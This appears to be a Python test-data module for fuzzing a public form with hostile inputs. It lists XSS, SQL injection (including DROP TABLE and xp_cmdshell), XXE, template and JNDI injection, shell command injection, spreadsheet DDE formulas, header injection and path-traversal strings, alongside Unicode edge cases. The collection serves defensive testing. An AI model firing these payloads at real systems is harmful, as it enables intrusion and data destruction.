"""Texts that have broken software before, of every kind that a public form gets to see.

Each stands for a way in which a text can be taken for something else: for SQL, markup, a formula, a header, a path, a
number, the end of a line or of the text itself. Control characters are written as escapes, and what comes in series is
made here. `HOSTILE` has each text once; some can not be said in UTF-8 (`is_text`), which a test has to expect.
"""

from collections.abc import Iterator, Sequence

__all__ = ["FORMULAS", "HOSTILE", "is_text"]

CONTROL = [
    *(f"a{chr(code)}b" for code in (*range(0x20), *range(0x7F, 0xA0))),
    "\x00",
    "end\x00",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x08\x08\x08\x08",
    "\x1a",
    "\x04",
]
LINES = [
    "a\nb", "a\rb", "a\r\nb", "\n", "\r\n", "ends\n", "ends\r", "ends\r\n", "\nbegins", "\r\nbegins", "a\x0bb",
    "a\x0cb", "a\u2028b", "a\u2029b", "a\x85b", "ends\u2028", "ends\x85", "\n\n\n\n\n\n\n\n", "\t", "\ta", "a\tb",
]  # fmt: skip
SPACES = [
    "",
    " ",
    "   ",
    " a",
    "a ",
    *(f"a{chr(code)}b" for code in (0xA0, 0x1680, *range(0x2000, 0x2010), 0x202F, 0x205F, 0x2060, 0x3000)),
    *(chr(code) for code in (0xA0, 0x2003, 0x200B, 0x2060, 0x3000, 0xFEFF)),
    "\ufeffbegins",
    "ends\ufeff",
    "soft\u00adhyphen",
    "combining\u034fjoiner",
    "\u180e",
    "\u2800",
    "\u3164",
    "\uffa0",
]
DIRECTION = [
    *(f"a{chr(code)}b" for code in (0x061C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A))),
    "\u202etxt.exe",
    "invoice\u202efdp.exe",
    "\u2067right\u2069 left",
    "مرحبا بالعالم",
    "שלום עולם",
    "abc שלום 123 مرحبا",
    "﷽",
    "ﷺ",
    "\u202e\u202d\u202e\u202d",
    "א" * 200,
]
COMBINING = [
    "e" + "\u0301" * 100,
    "Z" + "\u0300\u0489\u034f" * 60,
    "\u0301begins",
    "é",
    "e\u0301",
    "ﬁ",
    "ſ",
    "İ",
    "ı",
    "ß",
    "ẞ",
    "Å",
    "Å",
    "A\u030a",
    "ǅ",
    "ῼ",
    "ᾳ",
    "ﬀ",
    "½",
    "①",
    "Ⅷ",
    "㎏",
    "ﾊﾟ",
    "한글",
    "\u1112\u1161\u11ab",
    "நி",
    "ক্ষ",
    "ก็็็็็็็็็็็็็็็็็็็็",
    "\u0e4a" * 50,
]
EMOJI = [
    "😀",
    "👩🏽‍🔬",
    "👨‍👩‍👧‍👦",
    "🏳️‍🌈",
    "🇪🇸",
    "🇪",
    "❤️",
    "❤",
    "1️⃣",
    "🧑🏿‍🦽‍➡️",
    "\U0001f3fb",
    "\u200d",
    "\ufe0f",
    "😀" * 100,
    "\U000e0041\U000e0042",
    "🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f",
    "(╯°□°）╯︵ ┻━┻",
    "¯\\_(ツ)_/¯",
]
SCRIPTS = [
    "Ναι", "Привет", "日本語", "中文字符", "繁體中文", "ไทย", "हिन्दी", "ქართული", "Հայերեն", "አማርኛ", "𐍈𐍉𐌽",
    "𝕬𝖇𝖈", "𝟘𝟙𝟚", "ＡＢＣ", "ｱｲｳ", "𠜎𠜱𠝹", "\U0010ffff", "\uffff", "\ufffe", "\ufdd0", "\ufffd", "\ue000",
    "\U000f0000",
    "\U0001fffe", "раураl", "аdmin", "ⓐⓓⓜⓘⓝ", "ɐqɔ", "ꓮꓐꓚ", "Ω≈ç√∫", "œ∑´®†", "‚‘’“”„", "«»‹›", "…—–‐‑", "°℃℉",
    "Iñtërnâtiônàlizætiøn", "Ｍｕñｏｚ", "O’Neil", "O'Neil", "d’Alembert-Łódź", "X Æ A-12", "null byte: \\0",
]  # fmt: skip
SURROGATES = [
    "\ud800",
    "\udfff",
    "a\ud83d",
    "\ude00b",
    "\ude00\ud83d",
    "\udc80",
    "x\udbff\udbff",
    "\ud800\x00",
]
MARKUP = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//example.org/x.js></SCRIPT>",
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><svg onload=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mi xlink:href='javascript:alert(1)'>x",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jav\tascript:alert(1)'>x</a>",
    "<base href='//example.org/'>",
    "<meta http-equiv=refresh content='0;url=//example.org'>",
    "<style>@import'//example.org'</style>",
    "<!--", "-->", "<!--[if IE]>", "<![CDATA[", "]]>", "<?xml version='1.0'?>", "<?php echo 1; ?>", "<% 1 %>",
    '"><script>alert(1)</script>', "' onfocus=alert(1) autofocus='", '" style="position:fixed', "`-alert(1)-`",
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)",
    "&lt;b&gt;", "&amp;", "&", "&#0;", "&#x110000;", "&nbsp;", "<", ">", "<>", "<b>bold", "</p></div></body></html>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "<!DOCTYPE x [<!ENTITY a 'aaaa'><!ENTITY b '&a;&a;&a;&a;'>]><x>&b;</x>",
    "<xi:include href='file:///etc/passwd' parse='text'/>",
    "<plaintext>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<b onmouseover=alert(1)>x", "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "[x](javascript:alert(1))", "![x](//example.org/pixel.png)", "# heading", "* item", "---", "```", "|a|b|", "~~x~~",
]  # fmt: skip
SQL = [
    "'", '"', "''", "';", "' --", "' OR '1'='1", "' OR 1=1 --", '" OR ""="', "') OR ('1'='1", "1; DROP TABLE users",
    "Robert'); DROP TABLE Students;--", "' UNION SELECT NULL,NULL --", "'; SELECT pg_sleep(9) --", "1/**/OR/**/1=1",
    "\\'; DROP TABLE cms_submission; --", "%' AND '%'='", "admin'/*", "$$; DROP TABLE x; $$", "E'\\x27'", "x'41'",
    "%", "_", "\\", "\\\\", "%%", "[a-z]", "' || (SELECT version()) || '", "1' AND SLEEP(9)#", "`id`", "{'$gt': ''}",
    '{"$ne": null}', "*)(uid=*))(|(uid=*", "';exec xp_cmdshell('dir');--", "\u02bc OR 1=1 --", "\uff07 OR 1=1 --",
    "' or count(/child::node())=1 or 'a'='b",
]  # fmt: skip
TEMPLATES = [
    "{{ 7*7 }}", "{{ settings.SECRET_KEY }}", "{% debug %}", "{% include '/etc/passwd' %}", "{# comment #}", "${7*7}",
    "#{7*7}", "<%= 7*7 %>", "${jndi:ldap://example.org/x}", "${env:HOME}", "{{constructor.constructor('1')()}}",
    "{{''.__class__.__mro__}}", "{0}", "{}", "{0.__class__}", "{name}", "{!r}", "{", "}", "}}", "{{", "%s", "%d", "%n",
    "%(name)s", "%x%x%x%x", "%99999s", "%1$s", "%c%c", "\\u0041", "\\x41", "\\n", "$HOME", "$(id)", "`id`; id", "| id",
    "&& id", "; id", "|| id", "> /tmp/x", "!!python/object/apply:os.system ['id']", "__proto__", "constructor",
    "toString", "__class__", "<#assign x=1>", "@{1}", "*{T(java.lang.Runtime)}", "() { :;}; echo x",
]  # fmt: skip
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(1)",
    '=HYPERLINK("http://example.org","x")', "=IMPORTXML(1)", '=WEBSERVICE("http://example.org")', "=DDE(1)", "+cmd|x",
    "-2+3+cmd|' /C calc'!A0", "@A1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "=", "+", "-", "@", "--", "==", "|",
    "%0A=1+1",
    "'=1+1", '"=1+1', ",=1+1", ";=1+1", '",=1+1', '";=1+1', '"\n=1+1', '"\r\n=1+1,"', "=1+1\x00", "\x00=1+1",
    "\u200b=1+1", "\ufeff=1+1", "\u00a0=1+1", "\u202e=1+1", "\u2212" + "1", "﹢1", "﹣1", "₊1", "⁼1", "﹦1+1",
    "\u3000=1+1",
    "+34 600 000 000", "-5", "=A1\t=A2",
]  # fmt: skip
"""What a spreadsheet takes, or may take after some tidying, for a formula."""
HEADERS = [
    "a@example.org\nBcc: b@example.org", "a@example.org\r\nBcc: b@example.org", "a@example.org%0aBcc:b@example.org",
    "a@example.org\r\n\r\nbody", "\r\nSet-Cookie: a=b", "x\r\nLocation: //example.org", "a@example.org,b@example.org",
    "a@example.org;b@example.org", "a@example.org b@example.org", "A <a@example.org>", "<a@example.org>",
    '"a b"@example.org', "a(comment)@example.org", "a@(comment)example.org", "a@[127.0.0.1]", "a@[IPv6:::1]",
    "a@127.0.0.1", "a@localhost", "a@example", "a@.org", "a@example..org", "a@-example.org", "a@example-.org",
    ".a@example.org", "a.@example.org", "a..b@example.org", "@example.org", "a@", "@", "a@@example.org", "a@b@c.org",
    "a@example.org.", " a@example.org", "a@example.org ", "a@example.org\n", "a@example.org\x00", "a@example.org\u2028",
    "a\u200b@example.org", "a@exam\u00adple.org", "а@example.org", "a@еxample.org", "a＠example.org", "a@example．org",
    "a@example。org", "a@xn--.org", "a@xn--a.org", "ñ@example.org", "a@ñ.example.org", "=?utf-8?q?x?=@example.org",
    "=1+1@example.org", "+1@example.org", "-oQ/tmp/x@example.org", "a'b@example.org", "a`id`@example.org",
    "a|b@example.org", "{{7*7}}@example.org", "%s@example.org", "a%b.org@example.org", "a!b@example.org",
    "x" * 64 + "@example.org", "x" * 65 + "@example.org", "a@" + "x" * 63 + ".org", "a@" + "x" * 64 + ".org",
    "a@" + "x." * 130 + "org", "a\ud800@example.org", "a@example.org\tb", "\ta@example.org", "mailto:a@example.org",
    "a@example.org?cc=b@example.org", "a@example.org\x0bBcc: b@example.org", "a@example.org\x85Bcc: b@example.org",
]  # fmt: skip
PATHS = [
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "%2e%2e%2f", "..%c0%af", "....//", "file:///etc",
    "C:\\Windows", "\\\\example.org\\share", "CON", "NUL", "aux.txt", "~", "~root", "/dev/null", "/", "//", ".", "..",
    "a/../b", "%00", "a%00.txt", "-rf", "--help", "http://169.254.169.254/", "http://[::1]/", "//example.org", "gopher://x",
]  # fmt: skip
NUMBERS = [
    "0", "-0", "1", "-1", "00", "007", "1.0", "1,000", "1.000,00", "1e1000", "-1e-1000", "1E+02", "NaN", "nan",
    "Infinity",
    "-Infinity", "inf", "0x10", "0b1", "0o7", "1_000", "2147483648", "-2147483649", "9223372036854775808", "9" * 400,
    "1/0", "0/0", "0.1+0.2", "1.7976931348623159e308", "٣", "१२३", "１２３", "²", "½", "Ⅳ", "true", "false", "True",
    "yes",
    "no", "on", "null", "NULL", "None", "nil", "undefined", "NA", "N/A", "#N/A", "#REF!", "[]", "{}", "[[[[", '{"a":',
    '"', "1-2", "2026-02-30", "0000-00-00", "12:34:60", "1900-02-29", "31/12/99", "MARCH1", "SEPT9", "1-Jan", "TRUE",
]  # fmt: skip
ODD_PLACES = ["NO", "no", "ZZ", "XX", "ES\n", "es", "e\u0455", "ＥＳ", "GB-SCT", "UK", "EU", "T\u0130", "tı"]
LONG = [
    "x" * 10_000,
    "é" * 5_000,
    "x " * 4_000,
    "=" * 1_000,
    "\n" * 1_000,
    "<b>" * 1_000,
    "(" * 5_000,
    "a" * 201,
    "a" * 200,
]


def is_text(text: str) -> bool:
    """Whether the text can be said in UTF-8; half a surrogate pair can not."""
    try:
        text.encode()
    except UnicodeEncodeError:
        return False
    return True


def _all() -> Iterator[str]:
    for family in (
        CONTROL, LINES, SPACES, DIRECTION, COMBINING, EMOJI, SCRIPTS, SURROGATES, MARKUP, SQL, TEMPLATES, FORMULAS,
        HEADERS, PATHS, NUMBERS, ODD_PLACES, LONG,
    ):  # fmt: skip
        yield from family


HOSTILE: Sequence[str] = tuple(dict.fromkeys(_all()))
assert len(HOSTILE) >= 400
